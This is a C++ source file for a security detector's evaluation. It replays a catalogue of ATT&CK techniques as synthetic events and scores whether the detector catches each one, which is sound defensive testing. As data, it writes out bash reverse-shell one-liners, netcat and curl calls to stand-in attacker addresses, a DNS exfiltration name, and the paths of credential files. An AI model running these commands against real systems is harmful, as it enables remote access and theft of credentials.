// tools/eval/techniques.cc: the technique catalogue and its player.
#include "tools/eval/techniques.h"

#include <arpa/inet.h>

#include <algorithm>
#include <cctype>
#include <map>
#include <nlohmann/json.hpp>
#include <sstream>
#include <utility>

#include "model/items.h"

namespace dw::tools {
namespace {

using model::Severity;
constexpr uint8_t kRead = kAccessRead;
constexpr uint8_t kWrite = kAccessWrite;
constexpr uint8_t kCreate = kAccessWrite | kAccessCreate;

// Where an intruder's tools talk to: documentation addresses (RFC 5737).
constexpr const char* kAttacker = "203.0.113.77";
constexpr const char* kDropSite = "198.51.100.23";

// A shell the service starts for one command (a command injection).
PlayedProcess ShellRunning(TechniquePlayer& p, const std::string& command) {
  return p.Spawn(p.self(), "/usr/bin/dash", {"sh", "-c", command});
}

// The catalogue. Floors: critical where the technique alone is a compromise
// (a shell, a way in or out, persistence, running what was just written);
// high for reading credentials and changing the system; medium for what a
// workload could do for its own reasons on a bad day (a new peer, a scan).
const std::vector<Technique> kTechniques = {
    {"T1059.004", "shell started by the service, runs id", Severity::kCritical,
     [](TechniquePlayer& p) {
       PlayedProcess sh = ShellRunning(p, "id");
       p.Spawn(sh, "/usr/bin/id", {"id"});
     }},
    {"T1059.004", "shell started by the service through nohup, runs id", Severity::kCritical,
     [](TechniquePlayer& p) {
       PlayedProcess nohup = p.Spawn(p.self(), "/usr/bin/nohup", {"nohup", "sh", "-c", "id"});
       PlayedProcess sh = p.Exec(nohup, "/usr/bin/dash", {"sh", "-c", "id"});
       p.Spawn(sh, "/usr/bin/id", {"id"});
     }},
    {"T1059.006", "python one-liner started by the service", Severity::kCritical,
     [](TechniquePlayer& p) { p.Spawn(p.self(), "/usr/bin/python3.11", {"python3", "-c", "import os"}); }},
    {"T1059.004", "reverse shell: bash to an outside address", Severity::kCritical,
     [](TechniquePlayer& p) {
       PlayedProcess bash =
           p.Spawn(p.self(), "/usr/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/203.0.113.77/4444 0>&1"});
       p.Connect(bash, kAttacker, 4444);
     }},
    {"T1059.004", "reverse shell over UDP: bash to an outside address", Severity::kCritical,
     [](TechniquePlayer& p) {
       PlayedProcess bash =
           p.Spawn(p.self(), "/usr/bin/bash", {"bash", "-c", "bash -i >& /dev/udp/203.0.113.77/4444 0>&1"});
       p.Connect(bash, kAttacker, 4444, kProtocolUdp);
     }},
    {"T1059.004", "bind shell: perl listening on all addresses", Severity::kCritical,
     [](TechniquePlayer& p) {
       PlayedProcess perl = p.Spawn(p.self(), "/usr/bin/perl", {"perl", "-e", "use Socket; ..."});
       p.Listen(perl, "0.0.0.0", 31337);
     }},
    {"T1095", "netcat to an outside address", Severity::kCritical,
     [](TechniquePlayer& p) {
       PlayedProcess nc = p.Spawn(p.self(), "/usr/bin/nc.openbsd", {"nc", "203.0.113.77", "9001"});
       p.Connect(nc, kAttacker, 9001);
     }},
    {"T1105", "tool download with curl into /tmp", Severity::kHigh,
     [](TechniquePlayer& p) {
       PlayedProcess curl =
           p.Spawn(p.self(), "/usr/bin/curl", {"curl", "-so", "/tmp/.x", "http://198.51.100.23/x"});
       p.Connect(curl, kDropSite, 80);
       p.Open(curl, "/tmp/.x", kCreate);
     }},
    {"T1204.002", "drop and execute: the service writes a binary and runs it", Severity::kCritical,
     [](TechniquePlayer& p) {
       p.Open(p.self(), "/var/tmp/.cache/kworker", kCreate);
       p.Spawn(p.self(), "/var/tmp/.cache/kworker", {"[kworker/0:1]"});
     }},
    {"T1204.002", "execution from /dev/shm", Severity::kCritical,
     [](TechniquePlayer& p) { p.Spawn(p.self(), "/dev/shm/.s", {"/dev/shm/.s"}); }},
    {"T1620", "fileless execution from a memfd", Severity::kCritical,
     [](TechniquePlayer& p) { p.Spawn(p.self(), "memfd:payload", {"payload"}, kExecFileless); }},
    {"T1620", "execution of a deleted file", Severity::kCritical,
     [](TechniquePlayer& p) { p.Spawn(p.self(), "/tmp/stage2 (deleted)", {"stage2"}, kExecFileless); }},
    {"T1496", "crypto miner in /tmp to a pool port", Severity::kCritical,
     [](TechniquePlayer& p) {
       PlayedProcess miner = p.Spawn(p.self(), "/tmp/xmrig", {"xmrig", "-o", "pool:3333"});
       p.Connect(miner, kAttacker, 3333);
     }},
    {"T1003.008", "service reads /etc/shadow", Severity::kHigh,
     [](TechniquePlayer& p) { p.Open(p.self(), "/etc/shadow", kRead); }},
    {"T1552.001", "service reads cloud credentials", Severity::kHigh,
     [](TechniquePlayer& p) { p.Open(p.self(), "/root/.aws/credentials", kRead); }},
    {"T1552.001", "service reads a kubeconfig", Severity::kHigh,
     [](TechniquePlayer& p) { p.Open(p.self(), "/root/.kube/config", kRead); }},
    {"T1528", "service reads the pod's service account token", Severity::kHigh,
     [](TechniquePlayer& p) { p.Open(p.self(), "/var/run/secrets/kubernetes.io/serviceaccount/token", kRead); }},
    {"T1552.004", "service reads an SSH private key", Severity::kHigh,
     [](TechniquePlayer& p) { p.Open(p.self(), "/root/.ssh/id_ed25519", kRead); }},
    {"T1552.004", "service reads the host's TLS private keys", Severity::kHigh,
     [](TechniquePlayer& p) { p.Open(p.self(), "/etc/ssl/private/ssl-cert-snakeoil.key", kRead); }},
    {"T1003.007", "service reads another process's environment", Severity::kHigh,
     [](TechniquePlayer& p) { p.Open(p.self(), "/proc/1/environ", kRead); }},
    {"T1003.007", "service reads another process's memory", Severity::kHigh,
     [](TechniquePlayer& p) { p.Open(p.self(), "/proc/1/mem", kRead); }},
    {"T1552.003", "service reads root's shell history", Severity::kHigh,
     [](TechniquePlayer& p) { p.Open(p.self(), "/root/.bash_history", kRead); }},
    {"T1053.003", "cron job written by the service", Severity::kCritical,
     [](TechniquePlayer& p) { p.Open(p.self(), "/etc/cron.d/0hourly-update", kCreate); }},
    {"T1053.003", "crontab edited through a shell", Severity::kCritical,
     [](TechniquePlayer& p) {
       PlayedProcess sh = ShellRunning(p, "crontab /tmp/c");
       p.Spawn(sh, "/usr/bin/crontab", {"crontab", "/tmp/c"});
     }},
    {"T1543.002", "systemd unit written by the service", Severity::kCritical,
     [](TechniquePlayer& p) { p.Open(p.self(), "/etc/systemd/system/update-notifier.service", kCreate); }},
    {"T1098.004", "SSH key added to authorized_keys", Severity::kCritical,
     [](TechniquePlayer& p) { p.Open(p.self(), "/root/.ssh/authorized_keys", kWrite); }},
    {"T1574.006", "library preloaded through /etc/ld.so.preload", Severity::kCritical,
     [](TechniquePlayer& p) { p.Open(p.self(), "/etc/ld.so.preload", kCreate); }},
    {"T1574.006", "service loads a library from /dev/shm (LD_PRELOAD)", Severity::kHigh,
     [](TechniquePlayer& p) { p.Open(p.self(), "/dev/shm/.font-unix/libnss_dns.so.2", kAccessRead); }},
    {"T1574.006", "drop and load: the service writes a library and loads it", Severity::kCritical,
     [](TechniquePlayer& p) {
       p.Open(p.self(), "/var/tmp/.cache/libgcc_s.so.1", kCreate);
       p.Open(p.self(), "/var/tmp/.cache/libgcc_s.so.1", kAccessRead);
     }},
    {"T1546.004", "login shell profile changed", Severity::kCritical,
     [](TechniquePlayer& p) { p.Open(p.self(), "/root/.bashrc", kWrite); }},
    {"T1136.001", "account added to /etc/passwd", Severity::kCritical,
     [](TechniquePlayer& p) { p.Open(p.self(), "/etc/passwd", kWrite); }},
    {"T1548.003", "sudoers rule written", Severity::kCritical,
     [](TechniquePlayer& p) { p.Open(p.self(), "/etc/sudoers.d/90-ops", kCreate); }},
    {"T1556.003", "PAM module written", Severity::kHigh,
     [](TechniquePlayer& p) { p.Open(p.self(), "/usr/lib/x86_64-linux-gnu/security/pam_unix2.so", kCreate); }},
    {"T1505.003", "web shell written where the service serves", Severity::kHigh,
     [](TechniquePlayer& p) { p.Open(p.self(), p.served_dir() + "/.status.php", kCreate); }},
    {"T1505.003", "script written into a system binary directory", Severity::kHigh,
     [](TechniquePlayer& p) { p.Open(p.self(), "/usr/local/bin/healthcheck", kCreate); }},
    {"T1564.001", "hidden file planted among the devices", Severity::kHigh,
     [](TechniquePlayer& p) { p.Open(p.self(), "/dev/.lib/.x", kCreate); }},
    {"T1572", "tunnel interface opened", Severity::kHigh,
     [](TechniquePlayer& p) { p.Open(p.self(), "/dev/net/tun", kAccessRead | kAccessWrite); }},
    {"T1070.002", "login records wiped", Severity::kHigh,
     [](TechniquePlayer& p) { p.Open(p.self(), "/var/log/wtmp", kWrite); }},
    {"T1070.003", "shell history cleared", Severity::kHigh,
     [](TechniquePlayer& p) { p.Open(p.self(), "/root/.bash_history", kWrite); }},
    {"T1611", "cgroup release_agent written (container escape)", Severity::kCritical,
     [](TechniquePlayer& p) { p.Open(p.self(), "/sys/fs/cgroup/rdma/release_agent", kWrite); }},
    {"T1611", "kernel core_pattern written (container escape)", Severity::kCritical,
     [](TechniquePlayer& p) { p.Open(p.self(), "/proc/sys/kernel/core_pattern", kWrite); }},
    {"T1610", "service talks to the container runtime's socket", Severity::kCritical,
     [](TechniquePlayer& p) { p.Open(p.self(), "/var/run/docker.sock", kAccessConnect); }},
    {"T1611", "shell reaches a containerd shim's abstract socket", Severity::kCritical,
     [](TechniquePlayer& p) {
       PlayedProcess sh = ShellRunning(p, "socat - ABSTRACT-CONNECT:/containerd-shim/x.sock");
       p.Open(sh, "@/containerd-shim/x.sock", kAccessConnect);
     }},
    {"T1055.009", "another process's memory written", Severity::kCritical,
     [](TechniquePlayer& p) { p.Open(p.self(), "/proc/1/mem", kWrite); }},
    {"T1547.006", "kernel module loaded through a shell", Severity::kHigh,
     [](TechniquePlayer& p) {
       PlayedProcess sh = ShellRunning(p, "insmod /tmp/r.ko");
       p.Spawn(sh, "/usr/sbin/insmod", {"insmod", "/tmp/r.ko"});
     }},
    {"T1562.004", "firewall flushed through a shell", Severity::kHigh,
     [](TechniquePlayer& p) {
       PlayedProcess sh = ShellRunning(p, "iptables -F");
       p.Spawn(sh, "/usr/sbin/iptables", {"iptables", "-F"});
     }},
    {"T1006", "service reads the host's disk directly", Severity::kHigh,
     [](TechniquePlayer& p) { p.Open(p.self(), "/dev/sda1", kRead); }},
    {"T1611", "disk device mounted through a shell", Severity::kHigh,
     [](TechniquePlayer& p) {
       PlayedProcess sh = ShellRunning(p, "mount /dev/sda1 /mnt");
       p.Spawn(sh, "/usr/bin/mount", {"mount", "/dev/sda1", "/mnt"});
     }},
    {"T1037.004", "boot script /etc/rc.local written", Severity::kCritical,
     [](TechniquePlayer& p) { p.Open(p.self(), "/etc/rc.local", kCreate); }},
    {"T1574.007", "program planted on the PATH ahead of the system's", Severity::kHigh,
     [](TechniquePlayer& p) { p.Open(p.self(), "/usr/local/sbin/ls", kCreate); }},
    {"T1055.008", "service attaches to another process with ptrace", Severity::kHigh,
     [](TechniquePlayer& p) { p.Syscall(p.self(), "ptrace", 101); }},
    {"T1547.006", "service loads a kernel module itself", Severity::kHigh,
     [](TechniquePlayer& p) { p.Syscall(p.self(), "finit_module", 313); }},
    {"T1611", "service enters another namespace (setns)", Severity::kHigh,
     [](TechniquePlayer& p) { p.Syscall(p.self(), "setns", 308); }},
    {"T1620", "service creates an anonymous executable file (memfd_create)", Severity::kHigh,
     [](TechniquePlayer& p) { p.Syscall(p.self(), "memfd_create", 319); }},
    {"T1552.005", "cloud instance metadata requested", Severity::kHigh,
     [](TechniquePlayer& p) { p.Connect(p.self(), "169.254.169.254", 80); }},
    {"T1046", "service scans its network", Severity::kMedium,
     [](TechniquePlayer& p) {
       for (uint16_t port : {22, 23, 80, 443, 2375, 3306, 5432, 6379, 6443, 10250}) {
         p.Connect(p.self(), "192.0.2.10", port);
       }
     }},
    {"T1571", "service connects out on a new port", Severity::kMedium,
     [](TechniquePlayer& p) { p.Connect(p.self(), kAttacker, 8443); }},
    {"T1048.003", "service sends datagrams to an outside address (exfiltration over UDP)", Severity::kMedium,
     [](TechniquePlayer& p) { p.Connect(p.self(), kAttacker, 9999, kProtocolUdp); }},
    {"T1071.004", "service resolves a new name at a new resolver", Severity::kMedium,
     [](TechniquePlayer& p) { p.Dns(p.self(), "192.0.2.53", "a1b2c3d4e5.exfil.example"); }},
};

}  // namespace

const std::vector<Technique>& Techniques() { return kTechniques; }

TechniquePlayer::TechniquePlayer(model::Detector* detector, const Event& actor, int64_t start_ns)
    : detector_(detector), actor_(actor), now_ns_(start_ns) {
  self_.pid = actor.process.pid != 0 ? actor.process.pid : actor.pid;
  self_.ppid = actor.process.ppid;
  self_.exe = actor.process.exe;
  self_.script = actor.process.script;
  self_.argv = actor.process.argv;
  self_.parent_exe = actor.process.parent_exe;
  self_.ancestry = actor.process.ancestry;
}

Event TechniquePlayer::Base(EventKind kind, const PlayedProcess& p) {
  Event e;
  e.kind = kind;
  now_ns_ += 1'000'000;
  e.time_ns = now_ns_;
  e.cgroup = actor_.cgroup;
  e.cgroup_path = actor_.cgroup_path;
  e.workload = actor_.workload;
  e.uid = actor_.uid;
  e.pid = p.pid;
  e.tid = p.pid;
  e.ppid = p.ppid;
  std::string_view exe = p.exe;
  e.comm = std::string(exe.substr(exe.rfind('/') + 1).substr(0, 15));
  e.process.pid = p.pid;
  e.process.ppid = p.ppid;
  e.process.exe = p.exe;
  e.process.script = p.script;
  e.process.argv = p.argv;
  e.process.parent_exe = p.parent_exe;
  e.process.ancestry = p.ancestry;
  e.process.runtime = actor_.process.runtime;
  return e;
}

void TechniquePlayer::Send(const Event& e) {
  detector_->Observe(e);
  played_.push_back(e);
}

PlayedProcess TechniquePlayer::Spawn(const PlayedProcess& parent, const std::string& exe,
                                     std::vector<std::string> argv, uint8_t exec_flags) {
  PlayedProcess child;
  child.pid = next_pid_++;
  child.ppid = parent.pid;
  child.exe = exe;
  child.argv = std::move(argv);
  child.parent_exe = parent.program();
  child.ancestry = {parent.program()};
  child.ancestry.insert(child.ancestry.end(), parent.ancestry.begin(), parent.ancestry.end());

  Event fork = Base(EventKind::kFork, parent);
  fork.child_pid = child.pid;
  Send(fork);
  Event exec = Base(EventKind::kExec, child);
  exec.path = exe;
  exec.argv = child.argv;
  exec.exec_flags = exec_flags;
  exec.parent_exe = parent.exe;
  Send(exec);
  return child;
}

PlayedProcess TechniquePlayer::Exec(const PlayedProcess& p, const std::string& exe, std::vector<std::string> argv) {
  PlayedProcess now = p;
  now.exe = exe;
  now.script.clear();
  now.argv = std::move(argv);
  Event exec = Base(EventKind::kExec, now);
  exec.path = exe;
  exec.argv = now.argv;
  exec.parent_exe = now.parent_exe;
  Send(exec);
  return now;
}

void TechniquePlayer::Open(const PlayedProcess& p, const std::string& path, uint8_t access) {
  Event e = Base(EventKind::kOpen, p);
  e.path = path;
  e.access = access;
  e.open_flags = (access & kAccessWrite) != 0 ? 01 | ((access & kAccessCreate) != 0 ? 0100 : 0) : 0;
  e.result = 5;
  Send(e);
}

namespace {
Endpoint V4(const std::string& address, uint16_t port) {
  Endpoint ep;
  ep.family = 2;
  inet_pton(AF_INET, address.c_str(), ep.addr.data());
  ep.port = port;
  return ep;
}
}  // namespace

void TechniquePlayer::Connect(const PlayedProcess& p, const std::string& address, uint16_t port,
                              uint8_t protocol) {
  Event e = Base(EventKind::kConnect, p);
  e.protocol = protocol;
  e.local = V4("10.1.2.3", 45678);
  e.peer = V4(address, port);
  Send(e);
}

void TechniquePlayer::Listen(const PlayedProcess& p, const std::string& address, uint16_t port) {
  Event e = Base(EventKind::kListen, p);
  e.protocol = 6;
  e.local = V4(address, port);
  Send(e);
}

void TechniquePlayer::Syscall(const PlayedProcess& p, const std::string& name, uint32_t nr) {
  Event e = Base(EventKind::kSyscall, p);
  e.syscall = name;
  e.syscall_nr = nr;
  Send(e);
}

void TechniquePlayer::Dns(const PlayedProcess& p, const std::string& resolver, const std::string& name) {
  Event e = Base(EventKind::kDns, p);
  e.protocol = 17;
  e.local = V4("10.1.2.3", 53535);
  e.peer = V4(resolver, 53);
  e.dns_name = name;
  Send(e);
}

size_t TechniqueResult::reached() const {
  return static_cast<size_t>(
      std::count_if(outcomes.begin(), outcomes.end(), [](const TechniqueOutcome& o) { return o.reached(); }));
}

Result<TechniqueResult> RunTechniques(const EvalCase& c) {
  // The busiest program: events by workload, then by program (its script,
  // else its executable), and the last event of each (its process context is
  // what the technique plays as).
  struct Program {
    uint64_t events = 0;
    bool accepted = false;
    Event last;
  };
  std::map<std::string, uint64_t> per_workload;
  std::map<std::pair<std::string, std::string>, Program> per_program;
  int64_t last_ns = 0;
  uint64_t events = 0;
  ASSIGN_OR_RETURN(auto fingerprints, TrainCase(c, &events, [&](const Event& e) {
                     last_ns = std::max(last_ns, e.time_ns);
                     if (e.process.exe.empty() || e.workload.empty()) return;
                     ++per_workload[e.workload];
                     Program& p = per_program[{e.workload, collector::ProgramOf(e.process.exe, e.process.script)}];
                     ++p.events;
                     p.accepted |= e.kind == EventKind::kAccept;
                     p.last = e;
                   }));
  if (per_workload.empty()) {
    return Status(ErrorCode::kNotFound, "eval case " + c.name + ": training saw no program");
  }
  auto busiest = std::max_element(per_workload.begin(), per_workload.end(),
                                   [](const auto& a, const auto& b) { return a.second < b.second; });
  const Program* actor = nullptr;
  for (const auto& [key, p] : per_program) {
    if (key.first != busiest->first) continue;
    if (actor == nullptr || std::pair(p.accepted, p.events) > std::pair(actor->accepted, actor->events)) actor = &p;
  }

  TechniqueResult r;
  r.name = c.name;
  r.actor = collector::ProgramOf(actor->last.process.exe, actor->last.process.script);
  r.served_dir = ServedDirOf(fingerprints.at(busiest->first));
  for (const Technique& t : Techniques()) {
    r.outcomes.push_back(PlayTechnique(t, fingerprints, actor->last, last_ns + 60'000'000'000, r.served_dir));
  }
  return r;
}

std::string ServedDirOf(const model::Fingerprint& fp) {
  static constexpr std::string_view kSystemTrees[] = {"/usr/", "/lib", "/etc/", "/proc/", "/sys/", "/dev/",
                                                      "/run/", "/var/run/", "/bin/", "/sbin/"};
  std::map<std::string, uint64_t> weight;
  auto add = [&](std::string_view path, uint8_t access, uint64_t n) {
    if (access != kAccessRead) return;
    for (std::string_view t : kSystemTrees) {
      if (path.starts_with(t)) return;
    }
    const size_t slash = path.rfind('/');
    if (slash == 0 || slash == std::string_view::npos) return;
    weight[std::string(path.substr(0, slash))] += n;
  };
  for (const auto& [path, stats] : fp.files) add(path, stats.access, 1);
  for (const auto& [pattern, g] : fp.file_patterns) add(pattern, g.stats.access, g.covered);
  std::string best;
  uint64_t most = 0;
  for (const auto& [dir, n] : weight) {
    if (n > most) best = dir, most = n;
  }
  return best;
}

TechniqueOutcome PlayTechnique(const Technique& t, const std::map<std::string, model::Fingerprint>& fingerprints,
                               const Event& actor, int64_t start_ns, const std::string& served_dir) {
  model::Detector detector(fingerprints);
  TechniquePlayer player(&detector, actor, start_ns);
  if (!served_dir.empty()) player.set_served_dir(served_dir);
  t.play(player);
  detector.Flush();
  TechniqueOutcome o;
  o.technique = &t;
  o.findings = detector.findings().size();
  auto fp = fingerprints.find(actor.workload);
  o.learned = o.findings == 0 && fp != fingerprints.end() &&
              std::all_of(player.played().begin(), player.played().end(), [&](const Event& e) {
                for (const model::ItemRef& item : model::ItemsOf(e)) {
                  model::ItemMatch m = model::LookupItem(fp->second, item);
                  if (m.stats == nullptr || m.file_pattern != nullptr || m.net_pattern != nullptr) return false;
                }
                return true;
              });
  const model::Finding* top = nullptr;
  for (const auto& f : detector.findings()) {
    if (top == nullptr || f->score > top->score) top = f.get();
  }
  if (top != nullptr) {
    o.top = top->severity;
    o.top_finding = std::string(model::FindingKindName(top->kind)) + " " + top->subject + " (" + top->reason + ")";
  }
  return o;
}

namespace {
char Letter(const TechniqueOutcome& o) {
  if (o.findings == 0) return o.learned ? '.' : '-';
  return static_cast<char>(std::toupper(SeverityName(o.top)[0]));  // L, M, H, C
}
}  // namespace

std::string TechniquesText(const std::vector<TechniqueResult>& results) {
  std::ostringstream os;
  os << "techniques played as each workload's server against its baseline "
        "(C/H/M/L: the top finding's severity; '.' none, learned; '-' none; '!' below the technique's floor)\n";
  size_t name_width = 0;
  for (const Technique& t : Techniques()) name_width = std::max(name_width, t.id.size() + 1 + t.name.size());
  os << std::string(name_width, ' ') << "  floor";
  for (const TechniqueResult& r : results) {
    const std::string head = r.name.substr(0, 5);
    os << " " << head << std::string(5 - head.size(), ' ');
  }
  os << "\n";
  for (size_t i = 0; i < Techniques().size(); ++i) {
    const Technique& t = Techniques()[i];
    std::string row = t.id + " " + t.name;
    row += std::string(name_width - row.size(), ' ') + "  " + SeverityName(t.floor)[0] + "    ";
    for (const TechniqueResult& r : results) {
      const TechniqueOutcome& o = r.outcomes[i];
      row += std::string(" ") + Letter(o) + (o.reached() ? ' ' : '!') + "   ";
    }
    os << row.substr(0, row.find_last_not_of(' ') + 1) << "\n";
  }
  size_t reached = 0, total = 0;
  for (const TechniqueResult& r : results) {
    reached += r.reached();
    total += r.outcomes.size();
  }
  os << "at or above the floor: " << reached << " of " << total << "\n";
  for (const TechniqueResult& r : results) {
    for (const TechniqueOutcome& o : r.outcomes) {
      if (o.reached()) continue;
      os << r.name << " (as " << r.actor << "): " << o.technique->id << " " << o.technique->name << ": "
         << (o.findings == 0 ? std::string("no finding, and not every item learned exactly")
                             : SeverityName(o.top) + std::string(", ") + o.top_finding)
         << ", floor " << SeverityName(o.technique->floor) << "\n";
    }
  }
  return os.str();
}

std::string TechniquesJson(const TechniqueResult& r) {
  nlohmann::ordered_json j;
  j["name"] = r.name;
  j["actor"] = r.actor;
  j["served_dir"] = r.served_dir;
  j["reached"] = r.reached();
  j["techniques"] = nlohmann::ordered_json::array();
  for (const TechniqueOutcome& o : r.outcomes) {
    j["techniques"].push_back({{"id", o.technique->id},
                               {"name", o.technique->name},
                               {"floor", SeverityName(o.technique->floor)},
                               {"findings", o.findings},
                               {"top", o.findings == 0 ? "" : SeverityName(o.top)},
                               {"top_finding", o.top_finding},
                               {"learned", o.learned},
                               {"reached", o.reached()}});
  }
  return j.dump();
}

}  // namespace dw::tools
